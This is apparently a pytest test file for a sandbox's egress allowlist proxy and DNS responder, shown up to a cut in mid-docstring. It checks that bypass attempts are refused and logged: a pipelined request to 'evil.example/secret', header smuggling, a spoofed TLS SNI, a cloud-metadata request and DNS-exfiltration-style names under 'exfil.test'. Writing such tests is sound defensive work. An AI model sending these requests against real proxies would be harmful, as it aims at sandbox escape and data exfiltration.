"""The egress allowlist ([Network] Allow=, --allow-net): a host-side proxy and
DNS responder on the sandbox's loopback.  Upstream servers run on this machine's
own loopback only (127.0.0.2, so NO_PROXY's 127.0.0.1 doesn't bypass the
proxy); loopback is refused unless a rule names it, which these rules do."""
import contextlib
import http.server
import json
import os
import signal
import socket
import socketserver
import subprocess
import tempfile
import threading
import time

import pytest
from conftest import NSBOX, reap, run

UP = "127.0.0.2"
PY = "/usr/bin/python3.11"


_ALL_CONNS = []


class _Conns:
    """Connections a test server holds open: the proxy's side closes when
    the sandbox ends, the server's a moment later; each test waits for
    that (conftest's host_intact counts this process's fds)."""
    def __init__(self):
        self.n = 0
        self.lock = threading.Lock()
        _ALL_CONNS.append(self)

    def add(self, d):
        with self.lock:
            self.n += d

    def settle(self, timeout=10):
        import time
        end = time.monotonic() + timeout
        while self.n and time.monotonic() < end:
            time.sleep(0.02)
        assert self.n == 0, f"{self.n} upstream connections still open"


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"x" * (1 << 20) if self.path == "/big" else b"hello from upstream\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Seen-Host", self.headers.get("Host", ""))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


class _Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def process_request(self, request, client_address):
        self.conns.add(1)
        super().process_request(request, client_address)

    def shutdown_request(self, request):
        super().shutdown_request(request)
        self.conns.add(-1)


@pytest.fixture(autouse=True)
def _servers_settled():
    """Torn down before conftest's host_intact looks at this process's fds."""
    yield
    for c in _ALL_CONNS:
        c.settle()


@pytest.fixture(scope="module")
def upstream():
    srv = _Server((UP, 0), _Handler)
    srv.conns = _Conns()
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


def _tcp_server(host, handle, backlog=8, threaded=False):
    """A TCP server on host for a test: handle(c) for each connection (in a
    thread of its own when threaded), counted in the returned _Conns while
    it runs.  accept() polls with a timeout: a thread blocked in accept(2)
    holds an fd number reserved, which moves conftest's fd listing."""
    s = socket.socket()
    s.bind((host, 0))
    s.listen(backlog)
    s.settimeout(0.2)
    conns = _Conns()

    def serve(c):
        try:
            with c:
                handle(c)
        finally:
            conns.add(-1)

    def loop():
        while True:
            try:
                c, _ = s.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            c.settimeout(None)
            conns.add(1)
            if threaded:
                threading.Thread(target=serve, args=(c,), daemon=True).start()
            else:
                serve(c)
    threading.Thread(target=loop, daemon=True).start()
    return s, conns


@pytest.fixture(scope="module")
def echo():
    """A raw TCP server that records what it receives (TLS ClientHellos)."""
    seen = []

    def handle(c):
        c.settimeout(10)
        try:
            seen.append(c.recv(65536))
        except OSError:
            seen.append(b"")
    s, conns = _tcp_server("127.0.0.1", handle)
    yield s.getsockname()[1], seen, conns
    s.close()


def sandbox(args, script, timeout=60):
    with tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl") as log:
        rc, out, err = run(["run", "--net-log", log.name] + args + ["--", PY, "-c", script], timeout=timeout)
        entries = [json.loads(line) for line in open(log.name) if line.strip()]
    assert rc == 0, err
    return json.loads(out.strip().splitlines()[-1]), entries


# Inside: raw HTTP through the proxy (urllib honours NO_PROXY, these don't).
PRELUDE = r'''
import json, os, socket, ssl, urllib.request
R = {}
def raw(req, host="127.0.0.1", port=3128):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(req.encode())
    data = b""
    while True:
        b = s.recv(65536)
        if not b: break
        data += b
    s.close()
    head = data.split(b"\r\n\r\n")[0].decode(errors="replace")
    deny = [l.split(":", 1)[1].strip() for l in head.split("\r\n") if l.lower().startswith("x-nsbox-deny:")]
    return head.split("\r\n")[0], (deny[0] if deny else None), len(data)
'''


def test_allowed_fetch_with_env_proxies(upstream):
    out, log = sandbox(["--allow-net", f"{UP}:{upstream}"], PRELUDE + f'''
R["env"] = {{k: os.environ.get(k) for k in ("HTTP_PROXY", "https_proxy", "NO_PROXY", "PIP_PROXY")}}
R["body"] = urllib.request.urlopen("http://{UP}:{upstream}/", timeout=10).read().decode()
R["resolv"] = open("/etc/resolv.conf").read()
print(json.dumps(R))
''')
    assert out["body"] == "hello from upstream\n"
    assert out["env"]["HTTP_PROXY"] == "http://127.0.0.1:3128" and out["env"]["PIP_PROXY"]
    assert "nameserver 127.0.0.1" in out["resolv"]
    allow = [e for e in log if e["kind"] == "http" and e["decision"] == "allow"]
    assert allow and allow[0]["addr"] == UP and allow[0]["bytes_in"] > 20 and allow[0]["bytes_out"] > 0


def test_unlisted_name_fails_at_dns_and_proxy(upstream):
    out, log = sandbox(["--allow-net", f"{UP}:{upstream}", "--allow-net", "*.allowed.test"], PRELUDE + '''
try:
    socket.getaddrinfo("example.com", 80)
    R["dns"] = "resolved"
except socket.gaierror as e:
    R["dns"] = e.errno
R["proxy"] = raw("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n")
R["connect"] = raw("CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n")
print(json.dumps(R))
''')
    assert out["dns"] == socket.EAI_NONAME
    assert out["proxy"][0].startswith("HTTP/1.1 403") and out["proxy"][1] == "name not on the allowlist"
    assert out["connect"][0].startswith("HTTP/1.1 403")
    reasons = [(e["kind"], e["host"], e["decision"]) for e in log]
    assert ("dns", "example.com", "deny") in reasons
    assert ("http", "example.com", "deny") in reasons and ("connect", "example.com", "deny") in reasons


def test_special_addresses_need_an_address_rule(upstream):
    # localhost is on the list by name but resolves to loopback on the
    # host: refused.  127.0.0.1 as a literal: refused without a rule.
    out, log = sandbox(["--allow-net", f"localhost:{upstream}", "--allow-net", f"{UP}:{upstream}",
                        "--allow-net", "10.0.0.0/8"], PRELUDE + f'''
R["name"] = raw("GET http://localhost:{upstream}/ HTTP/1.1\\r\\nHost: localhost:{upstream}\\r\\n\\r\\n")
R["lit"] = raw("CONNECT 127.0.0.1:{upstream} HTTP/1.1\\r\\n\\r\\n")
R["meta"] = raw("GET http://169.254.169.254/latest/ HTTP/1.1\\r\\n\\r\\n")
R["vhost"] = raw("GET http://{UP}:{upstream}/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n")
print(json.dumps(R))
''')
    assert out["name"][0].startswith("HTTP/1.1 403") and "loopback" in out["name"][1]
    assert out["lit"][0].startswith("HTTP/1.1 403") and "loopback" in out["lit"][1]
    assert out["meta"][0].startswith("HTTP/1.1 403") and "link-local" in out["meta"][1]
    assert out["vhost"][0].startswith("HTTP/1.1 403") and "Host header" in out["vhost"][1]
    assert all(e["decision"] == "deny" for e in log if e["kind"] != "dns")
    # With a rule naming the range, the same literal is allowed.
    out, _ = sandbox(["--allow-net", f"127.0.0.0/8:{upstream}"], PRELUDE + f'''
R["lit"] = raw("GET http://127.0.0.1:{upstream}/ HTTP/1.1\\r\\n\\r\\n")
print(json.dumps(R))
''')
    # Reached the host's loopback (nothing listens on 127.0.0.1:port: 502), not refused.
    assert out["lit"][1] in (None, "cannot connect to the destination")


@pytest.fixture
def recorder():
    """An HTTP server on the host's loopback that records every byte a
    connection brings within half a second of its first request's head,
    then answers 200 and closes."""
    seen = []

    def handle(c):
        data = b""
        try:
            c.settimeout(10)
            while b"\r\n\r\n" not in data:
                b = c.recv(65536)
                if not b:
                    break
                data += b
            c.settimeout(0.5)
            while True:
                b = c.recv(65536)
                if not b:
                    break
                data += b
        except OSError:
            pass
        seen.append(data)
        try:
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        except OSError:
            pass
    s, conns = _tcp_server("127.0.0.1", handle)
    yield s.getsockname()[1], seen, conns
    s.close()


def test_plain_http_relays_one_request(recorder):
    # A second request pipelined after the first (its body, if any) would
    # reach the allowed address with a Host the proxy never checked (a
    # virtual host on a shared front end): only the first request and its
    # Content-Length bytes are relayed.
    port, seen, conns = recorder
    h = f"127.0.0.1:{port}"
    out, log = sandbox(["--allow-net", h], PRELUDE + f'''
second = "GET http://evil.example/secret HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
R["get"] = raw("GET http://{h}/a HTTP/1.1\\r\\nHost: {h}\\r\\n\\r\\n" + second)
R["post"] = raw("POST http://{h}/b HTTP/1.1\\r\\nHost: {h}\\r\\nContent-Length: 5\\r\\n\\r\\nhello" + second)
R["te"] = raw("POST http://{h}/c HTTP/1.1\\r\\nHost: {h}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n")
R["cl2"] = raw("POST http://{h}/d HTTP/1.1\\r\\nHost: {h}\\r\\nContent-Length: 1\\r\\nContent-Length: 1\\r\\n\\r\\nx")
print(json.dumps(R))
''')
    conns.settle()
    assert out["get"][0] == "HTTP/1.1 200 OK" and out["post"][0] == "HTTP/1.1 200 OK", out
    assert out["te"][0].startswith("HTTP/1.1 403") and "Transfer-Encoding" in out["te"][1], out
    assert out["cl2"][0].startswith("HTTP/1.1 403") and "Content-Length" in out["cl2"][1], out
    # From the host: the server saw each allowed request alone, the POST's
    # body whole, and nothing of the pipelined one.
    assert len(seen) == 2, seen
    get, post = sorted(seen)
    assert get.startswith(b"GET /a HTTP/1.1\r\n") and get.endswith(b"\r\n\r\n") and get.count(b"HTTP/1.1") == 1
    assert post.startswith(b"POST /b HTTP/1.1\r\n") and post.endswith(b"\r\n\r\nhello"), post
    assert b"evil" not in get + post


def test_connect_checks_sni(echo):
    port, seen, conns = echo
    rules = ["--allow-net", f"localhost:{port}", "--allow-net", f"127.0.0.1:{port}"]
    out, log = sandbox(rules, PRELUDE + f'''
def hello(sni):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context()
    try:
        ctx.wrap_socket(s, server_hostname=sni).close()
        return "handshake"
    except (ssl.SSLError, OSError) as e:
        return type(e).__name__ + ":" + str(e)
R["good"] = hello("localhost")
R["bad"] = hello("evil.example")
print(json.dumps(R))
''')
    assert "ACCESS_DENIED" in out["bad"].upper()
    conns.settle()
    got = [b for b in seen if b]
    assert got, (out, log)
    assert len(got) == 1 and got[0][:1] == b"\x16" and b"localhost" in got[0]
    # The two tunnels end in either order: the audit line is written at the end.
    d = sorted((e for e in log if e["kind"] == "connect"), key=lambda e: e["sni"] != "localhost")
    assert [e["decision"] for e in d] == ["allow", "deny"]
    assert d[1]["sni"] == "evil.example" and "SNI" in d[1]["reason"]


def test_no_direct_route_no_raw_sockets(upstream):
    out, _ = sandbox(["--allow-net", f"{UP}:{upstream}"], PRELUDE + f'''
import errno
def err(f):
    try:
        f(); return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
R["direct"] = err(lambda: socket.create_connection(("{UP}", {upstream}), timeout=3))
R["outside"] = err(lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))
R["udp53"] = err(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
R["raw"] = err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
R["ifs"] = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
print(json.dumps(R))
''')
    assert out["direct"] == "ECONNREFUSED"      # 127.0.0.2 is the sandbox's own loopback
    assert out["outside"] == "ENETUNREACH" and out["udp53"] == "ENETUNREACH"
    assert out["raw"] in ("EPERM", "EACCES")
    assert out["ifs"] == ["lo"]


def test_dns_answers_allowed_names_locally(upstream):
    # An allowed name that resolves to loopback gets no address (the proxy
    # would refuse it); an unlisted one NXDOMAIN; both answered by the responder.
    out, log = sandbox(["--allow-net", "localhost", "--allow-net", f"{UP}:{upstream}"], PRELUDE + '''
def q(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)})
    except socket.gaierror as e:
        return e.errno
R["listed"] = q("localhost.")
R["unlisted"] = q("unlisted.example.")
print(json.dumps(R))
''')
    assert out["unlisted"] == socket.EAI_NONAME
    dns = {e["host"]: e["decision"] for e in log if e["kind"] == "dns"}
    assert dns.get("unlisted.example") == "deny"
    # A rule's own port counts: loopback allowed on the upstream's port
    # only, and localhost resolves to it there (not only for 443 and 80).
    out, _ = sandbox(["--allow-net", f"localhost:{upstream}", "--allow-net", f"127.0.0.0/8:{upstream}"],
                     PRELUDE + 'R["listed"] = sorted({a[4][0] for a in socket.getaddrinfo("localhost.", 80, '
                     'socket.AF_INET)})\nprint(json.dumps(R))\n')
    assert out["listed"] == ["127.0.0.1"], out


def test_limits(upstream):
    out, log = sandbox(["--allow-net", f"{UP}:{upstream}", "--net-max-bytes-in", "200K",
                        "--net-max-connections", "3"], PRELUDE + f'''
R["big"] = raw("GET http://{UP}:{upstream}/big HTTP/1.1\\r\\n\\r\\n")
R["next"] = [raw("GET http://{UP}:{upstream}/ HTTP/1.1\\r\\n\\r\\n") for _ in range(3)]
print(json.dumps(R))
''')
    assert out["big"][2] <= 200 * 1024
    assert out["next"][0][1] == "byte limit"
    assert out["next"][2][1] == "connection limit (MaxConnections)"
    assert any(e["reason"] == "byte limit (MaxBytesIn)" for e in log)
    total_in = sum(e["bytes_in"] for e in log)
    assert total_in <= 200 * 1024


def test_first_bytes_count_against_the_byte_limit(echo, recorder):
    """What a connection sends with its set-up (bytes behind a CONNECT or
    SOCKS head, a ClientHello, a plain request's head and body) is held
    to MaxBytesOut before it goes: under a 1 KiB limit, 8,000 bytes behind
    a CONNECT head reached the server before the fix, and a plain POST's
    4,000.  Now neither goes (the server sees a connection, no byte), the
    tunnel ends, the request gets a 403."""
    port, seen, conns = echo
    rport, rseen, rconns = recorder
    before = len(seen)      # the echo server is the module's
    out, log = sandbox(["--allow-net", f"127.0.0.1:{port}", "--allow-net", f"127.0.0.1:{rport}",
                        "--net-max-bytes-out", "1K"], PRELUDE + f'''
R["connect"] = raw("CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n" + "z" * 8000)
print(json.dumps(R))
''')
    conns.settle()
    assert out["connect"][0] == "HTTP/1.1 200 Connection established"
    assert b"".join(seen[before:]) == b"", seen[before:]
    assert [e["reason"] for e in log if e["kind"] == "connect"] == ["byte limit (MaxBytesOut)"]
    out, log = sandbox(["--allow-net", f"127.0.0.1:{rport}", "--net-max-bytes-out", "1K"], PRELUDE + f'''
R["post"] = raw("POST http://127.0.0.1:{rport}/ HTTP/1.1\\r\\nContent-Length: 4000\\r\\n\\r\\n" + "p" * 4000)
print(json.dumps(R))
''')
    rconns.settle()
    assert out["post"][:2] == ["HTTP/1.1 403 Forbidden", "byte limit (MaxBytesOut)"], out
    assert b"".join(rseen) == b"", rseen     # connected to, sent nothing


def test_audit_names_no_part_of_a_refused_name():
    """A request for a name with a byte no host name has is refused, and
    its audit line names no host: it named the part before that byte
    ("secretpart" of "secretpart%zz.x.test"), which the sandbox never
    asked for."""
    out, log = sandbox(["--allow-net", "x.test"], PRELUDE + SOCKS + r'''
R["connect"] = raw("CONNECT secretpart%zz.x.test:443 HTTP/1.1\r\n\r\n")
R["socks"] = socks("other$bad.x.test", 443)
print(json.dumps(R))
''')
    # SOCKS reply 4 (host unreachable), after the no-authentication method.
    assert out["connect"][0].startswith("HTTP/1.1 400") and out["socks"] == {"rep": 4}, out
    assert sorted((e["kind"], e["host"], e["decision"]) for e in log) == [("connect", "", "deny"),
                                                                          ("socks", "", "deny")], log


def test_policy_checks():
    rc, _, err = run(["run", "--share-net", "--allow-net", "example.com", "--", "/bin/true"])
    assert rc != 0 and "Network=none" in err
    for bad in ["*.com", "exa mple.com", "10.0.0.0/33", "example.com:0", "::1"]:
        rc, _, err = run(["run", "--allow-net", bad, "--", "/bin/true"])
        assert rc != 0 and "--allow-net" in err, bad
    rc, out, _ = run(["policy", "show", "--allow-net", "*.example.com:8443", "--net-log", "/tmp/x.jsonl"])
    if rc == 0:
        assert "Allow=*.example.com:8443" in out and "Log=/tmp/x.jsonl" in out


@pytest.fixture(scope="module")
def tls_upstream(tmp_path_factory):
    """An HTTPS server on 127.0.0.1 with a self-signed certificate for
    localhost (openssl(1) makes it), serving / and /big (1 MiB)."""
    import ssl
    import subprocess
    d = tmp_path_factory.mktemp("nsbox-test-tls")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
                    "-addext", "subjectAltName=DNS:localhost", "-keyout", str(d / "key.pem"), "-out",
                    str(d / "cert.pem")], check=True, capture_output=True)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(d / "cert.pem"), str(d / "key.pem"))
    srv = _Server(("127.0.0.1", 0), _Handler)
    srv.conns = _Conns()
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


# Inside: SOCKS5 spoken by hand (RFC 1928).
SOCKS = r'''
import struct
def socks(atyp_addr, port, cmd=1, methods=b"\x00", payload=None):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05" + bytes([len(methods)]) + methods)
    m = s.recv(2)
    if m[1:] != b"\x00":
        s.close(); return {"method": m.hex()}
    if isinstance(atyp_addr, str):
        a = b"\x03" + bytes([len(atyp_addr)]) + atyp_addr.encode()
    else:
        a = atyp_addr
    s.sendall(b"\x05" + bytes([cmd]) + b"\x00" + a + struct.pack(">H", port))
    rep = b""
    while len(rep) < 10:
        b = s.recv(10 - len(rep))
        if not b: break
        rep += b
    r = {"rep": rep[1] if len(rep) > 1 else None}
    if r["rep"] == 0 and payload is not None:
        s.sendall(payload)
        data = b""
        while True:
            b = s.recv(65536)
            if not b: break
            data += b
        r["data"] = data.decode(errors="replace")
    s.close()
    return r
'''


def test_socks5(upstream, echo):
    port, seen, conns = echo
    nseen = len([b for b in seen if b])
    rules = ["--allow-net", f"{UP}:{upstream}", "--allow-net", f"localhost:{port}", "--allow-net",
             f"127.0.0.1:{port}", "--allow-net", f"localhost:{upstream}", "--allow-net", "*.allowed.test"]
    get = f"GET / HTTP/1.1\\r\\nHost: {UP}:{upstream}\\r\\nConnection: close\\r\\n\\r\\n"
    out, log = sandbox(rules, PRELUDE + SOCKS + f'''
R["env"] = os.environ.get("ALL_PROXY")
R["literal"] = socks(b"\\x01" + socket.inet_aton("{UP}"), {upstream}, payload=b"{get}")
R["name_as_literal"] = socks("{UP}", {upstream}, payload=b"{get}")
R["unlisted"] = socks("example.com", 443)
R["private"] = socks("localhost", {upstream})
R["no_rule_ip"] = socks(b"\\x01" + socket.inet_aton("127.0.0.1"), {upstream})
R["public_ip"] = socks(b"\\x01" + socket.inet_aton("192.0.2.1"), 443)   # refused before any connect
R["v6"] = socks(b"\\x04" + socket.inet_pton(socket.AF_INET6, "::1"), {upstream})
R["unresolvable"] = socks("nx.allowed.test", 443)
R["bind"] = socks("localhost", {port}, cmd=2)
R["udp"] = socks("localhost", {port}, cmd=3)
R["atyp"] = socks(b"\\x07\\x01\\x02\\x03\\x04", {port})
R["auth_only"] = socks("localhost", {port}, methods=b"\\x02")
R["badname"] = socks("exa mple.com", 443)
s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
s.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x09localhost" + struct.pack(">H", {port}))
got = b""
while len(got) < 12:
    got += s.recv(12 - len(got))
R["pipelined"] = got.hex()
ctx = ssl.create_default_context()
try:
    ctx.wrap_socket(s, server_hostname="evil.example").close()
except (ssl.SSLError, OSError) as e:
    R["sni"] = str(e)
print(json.dumps(R))
''')
    assert out["env"] == "socks5h://127.0.0.1:1080"
    assert out["literal"]["rep"] == 0 and "hello from upstream" in out["literal"]["data"]
    assert out["name_as_literal"]["rep"] == 0 and "hello from upstream" in out["name_as_literal"]["data"]
    assert out["unlisted"]["rep"] == 2          # connection not allowed by ruleset
    assert out["private"]["rep"] == 2           # localhost resolves to loopback: no address rule
    assert out["no_rule_ip"]["rep"] == 2
    assert out["public_ip"]["rep"] == 2
    assert out["v6"]["rep"] == 2
    assert out["unresolvable"]["rep"] == 4      # host unreachable
    assert out["bind"]["rep"] == 7 and out["udp"]["rep"] == 7   # command not supported
    assert out["atyp"]["rep"] == 8              # address type not supported
    assert out["auth_only"] == {"method": "05ff"}
    assert out["badname"]["rep"] == 4
    # Greeting and request in one write; then a ClientHello for another name.
    assert out["pipelined"] == "0500" + "05000001" + "00000000" + "0000"
    assert "ACCESS_DENIED" in out["sni"].upper()
    conns.settle()
    assert len([b for b in seen if b]) == nseen  # the refused hello never left
    s = [e for e in log if e["kind"] == "socks"]
    by = {(e["host"], e["port"]): e for e in s}
    assert by[(UP, upstream)]["decision"] == "allow" and by[(UP, upstream)]["bytes_in"] > 20
    assert by[("example.com", 443)]["reason"] == "name not on the allowlist"
    assert "loopback" in by[("localhost", upstream)]["reason"]
    assert by[("::1", upstream)]["decision"] == "deny"
    assert by[("192.0.2.1", 443)]["reason"] == "address not on the allowlist"
    assert by[("nx.allowed.test", 443)]["reason"] == "cannot resolve the name on the host"
    reasons = [e["reason"] for e in s]
    assert "SOCKS BIND is not supported" in reasons and "SOCKS UDP ASSOCIATE is not supported" in reasons
    assert "SOCKS address type not supported" in reasons
    assert "SOCKS5 without the no-authentication method" in reasons
    assert any(e["sni"] == "evil.example" and "SNI" in e["reason"] for e in s)


def test_curl_https_through_both_proxies(tls_upstream):
    # A real TLS fetch by name: curl through HTTPS_PROXY (CONNECT) and
    # through SOCKS5 with remote resolution; nothing without a proxy.
    port = tls_upstream
    rules = ["--allow-net", f"localhost:{port}", "--allow-net", f"127.0.0.1:{port}"]
    with tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl") as log:
        rc, out, err = run(["run", "--net-log", log.name] + rules + ["--", "/bin/sh", "-c", f'''
unset NO_PROXY no_proxy
echo "connect: $(curl -sSk https://localhost:{port}/ 2>&1)"
echo "socks: $(curl -sSk --socks5-hostname 127.0.0.1:1080 https://localhost:{port}/ 2>&1)"
echo "direct: $(curl -sSk --noproxy '*' https://localhost:{port}/ 2>&1 | head -c 60)"
'''])
        entries = [json.loads(line) for line in open(log.name) if line.strip()]
    assert rc == 0, err
    lines = dict(line.split(": ", 1) for line in out.strip().splitlines())
    assert lines["connect"] == "hello from upstream"
    assert lines["socks"] == "hello from upstream"
    assert "hello" not in lines["direct"]
    kinds = [(e["kind"], e["decision"], e["sni"]) for e in entries]
    assert ("connect", "allow", "localhost") in kinds and ("socks", "allow", "localhost") in kinds


# A resolver for the host side, on 127.0.0.53, logging every query ("name
# qtype").  A queries get 192.0.2.7 (TEST-NET-1: nothing is ever sent
# there), or, with "flip", 127.0.0.2 for a name's first query and 127.0.0.3
# for every later one; AAAA: none.  With "nx", names starting "nx" get
# NXDOMAIN; with "own", A is 198.51.100.7 (an address the test puts on its
# namespace's lo).
RESOLVER = r"""
import socket, struct, sys
log, ready = sys.argv[1], sys.argv[2]
flip = sys.argv[3:] == ["flip"]
nx = sys.argv[3:] == ["nx"]
own = sys.argv[3:] == ["own"]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.53", 53))
open(ready, "w").close()
seen = set()
while True:
    q, peer = s.recvfrom(2048)
    if len(q) < 17:
        continue
    p, labels = 12, []
    while q[p]:
        labels.append(q[p + 1:p + 1 + q[p]].decode(errors="replace"))
        p += 1 + q[p]
    name, qtype = ".".join(labels).lower(), struct.unpack(">H", q[p + 1:p + 3])[0]
    with open(log, "a") as f:
        f.write("%s %d\n" % (name, qtype))
    an = b""
    if nx and name.startswith("nx"):
        s.sendto(q[:2] + b"\x81\x83" + struct.pack(">HHHH", 1, 0, 0, 0) + q[12:p + 5], peer)
        continue
    if qtype == 1:
        addr = [127, 0, 0, 3 if name in seen else 2] if flip else [198, 51, 100, 7] if own else [192, 0, 2, 7]
        an = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes(addr)
        seen.add(name)
    hdr = q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1 if an else 0, 0, 0)
    s.sendto(hdr + q[12:p + 5] + an, peer)
"""


def _own_resolver_run(d, inside, allow, mode="", start="", pids="", resolv=""):
    """nsbox run of inside (Python) with --allow-net allow, in a network and
    mount namespace of the test's own (and, unprivileged, a user namespace
    to own them), where /etc/resolv.conf names RESOLVER (in mode) on
    127.0.0.53.  start: shell run after the resolver starts (servers whose
    pids it leaves in the variables pids names); resolv: more lines for
    resolv.conf.  Returns the sandbox's
    last line as JSON, the resolver's queries as [name, qtype] and the
    network log's records."""
    import subprocess
    (d / "resolv.conf").write_text("nameserver 127.0.0.53\noptions attempts:1 timeout:2\n" + resolv)
    (d / "resolver.py").write_text(RESOLVER)
    (d / "queries.log").write_text("")
    (d / "inside.py").write_text(inside)
    script = f"""set -e
ip link set lo up
mount --bind {d}/resolv.conf /etc/resolv.conf
{PY} {d}/resolver.py {d}/queries.log {d}/ready {mode} &
r=$!
{start}
i=0; while [ ! -e {d}/ready ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
set +e
setpriv --inh-caps=-all --ambient-caps=-all {NSBOX} run --net-log {d}/net.jsonl --ro-bind {d}/inside.py:/inside.py \
    {" ".join("--allow-net '%s'" % a for a in allow)} -- {PY} /inside.py
rc=$?
kill $r {pids}; wait $r {pids} 2>/dev/null
exit $rc
"""
    ns = ["unshare", "--mount", "--net"]
    if os.geteuid() != 0:
        ns = ["unshare", "--user", "--map-current-user", "--keep-caps", "--mount", "--net"]
    p = subprocess.run(ns + ["sh", "-c", script], capture_output=True, timeout=120)
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    out = json.loads(p.stdout.decode().strip().splitlines()[-1])
    asked = [line.split() for line in (d / "queries.log").read_text().splitlines()]
    return out, asked, [json.loads(line) for line in open(d / "net.jsonl")]


def test_unlisted_names_never_reach_the_upstream_resolver(tmp_path):
    """The host side resolves with the host's resolver (getaddrinfo and
    /etc/resolv.conf).  Here nsbox runs where /etc/resolv.conf names a
    resolver the test runs (_own_resolver_run): that resolver must see the
    listed names the sandbox asks for, and none of the others."""
    inside = PRELUDE + r"""
def q(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
    except socket.gaierror as e:
        return e.errno
R["listed"] = q("api.listed.test")
R["unlisted"] = q("secret-data.exfil.test")
R["unlisted_txt"] = q("c2VjcmV0.exfil.test.")
R["proxy_unlisted"] = raw("CONNECT more-secrets.exfil.test:443 HTTP/1.1\r\n\r\n")
s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
s.sendall(b"\x05\x01\x00\x05\x01\x00\x03\x17socks-secret.exfil.test\x01\xbb")
got = b""
while len(got) < 12:
    b = s.recv(12 - len(got))
    if not b: break
    got += b
R["socks_unlisted"] = got.hex()
R["proxy_listed"] = raw("CONNECT www.listed.test:443 HTTP/1.1\r\n\r\n")
print(json.dumps(R))
"""
    out, asked, log = _own_resolver_run(tmp_path, inside, ["*.listed.test"])
    asked = [a[0] for a in asked]
    assert out["listed"] == ["192.0.2.7"]
    assert out["unlisted"] == socket.EAI_NONAME and out["unlisted_txt"] == socket.EAI_NONAME
    assert out["proxy_unlisted"][1] == "name not on the allowlist"
    assert out["socks_unlisted"][:8] == "05000502"   # no auth; not allowed by ruleset
    # The listed name resolved on the host side, then found no route out of
    # the test's namespace (192.0.2.7 is never reached).
    assert out["proxy_listed"][0].startswith("HTTP/1.1 502")
    assert "api.listed.test" in asked and "www.listed.test" in asked
    assert not [n for n in asked if "exfil" in n], asked
    assert {e["host"] for e in log if e["decision"] == "deny"} >= {"secret-data.exfil.test", "c2vjcmv0.exfil.test",
                                                                   "more-secrets.exfil.test",
                                                                   "socks-secret.exfil.test"}


def test_no_search_list_for_the_sandboxs_names(tmp_path):
    """The host's resolv.conf may have a search list: glibc then asks for
    NAME.corp.test when NAME has no address (res_search), a query for a
    name the sandbox chose (any label under a wildcard rule) that is on no
    list.  The host side asks for the name itself and nothing else,
    however often, by DNS and by proxy.  Before the fix the resolver saw
    nx-secret.listed.test.corp.test &c.; with only res_init each time,
    every second lookup still did."""
    inside = PRELUDE + r"""
def q(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
    except socket.gaierror as e:
        return e.errno
R["nx"] = [q("nx-secret%d.listed.test" % i) for i in range(3)]
R["single"] = q("nxlabel")
R["proxy"] = [raw("CONNECT nx-more%d.listed.test:443 HTTP/1.1\r\n\r\n" % i) for i in range(3)]
R["listed"] = q("api.listed.test")
print(json.dumps(R))
"""
    out, asked, log = _own_resolver_run(tmp_path, inside, ["*.listed.test", "nxlabel"], mode="nx",
                                        resolv="search corp.test\ndomain corp.test\n")
    names = [a[0] for a in asked]
    # Listed but without an address: an empty answer (EAI_NODATA), not NXDOMAIN.
    assert out["nx"] == [socket.EAI_NODATA] * 3 and out["listed"] == ["192.0.2.7"]
    assert all(p[1] == "cannot resolve the name on the host" for p in out["proxy"]), out
    assert not [n for n in names if "corp" in n], names
    # Each lookup did reach the resolver (nothing is pinned for a failure).
    assert names.count("nx-more1.listed.test") >= 1 and "nxlabel" in names, names


def test_ipv6_forms_of_ipv4_addresses_are_refused(tmp_path):
    """IPv4-compatible, IPv4-translated, 6to4, Teredo and local-use NAT64 addresses carry an
